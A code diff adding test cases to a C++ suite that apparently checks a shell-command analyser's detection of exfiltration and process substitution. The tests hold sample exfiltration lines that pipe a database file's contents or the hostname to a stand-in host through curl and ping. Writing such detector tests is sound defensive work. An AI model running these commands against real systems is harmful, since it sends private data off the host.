@@ -196,6 +196,26 @@ TEST_SUITE("facts.facts") {
         CHECK(!has_effect(judged("cat < /dev/tcp/h/1"), Effect::Exfil));
     }
 
+    TEST_CASE("output of a command in the words of a network program leaves the host") {
+        for (const char *line : {"curl http://h.test/$(cat /srv/db)", "ping -c1 `hostname`.h.test",
+                                 "x=$(cat /srv/db); curl \"http://h.test/?$x\""}) {
+            CAPTURE(line);
+            CHECK(has_effect(judged(line), Effect::Exfil));
+        }
+        for (const char *line : {"curl http://h.test/$VERSION", "curl http://h.test/$(echo v1)",
+                                 "echo $(cat /srv/db)"}) {
+            CAPTURE(line);
+            CHECK(!has_effect(judged(line), Effect::Exfil));
+        }
+    }
+
+    TEST_CASE("a process in place of a file name is judged, and is no file") {
+        const auto facts = judged("diff <(ls /srv) <(ls /tmp)");
+        CHECK(facts.commands.size() == 3);
+        CHECK(facts.commands[2].reads.empty());
+        CHECK(named(judged("tee >(rm x) < f"), "tee")[0].writes.empty());
+    }
+
     TEST_CASE("emptying a file destroys what it held; writing output to it does not") {
         for (const char *line :
              {"> /srv/f", ": > /srv/f", "true >| /srv/f", "cat /dev/null > /srv/f",
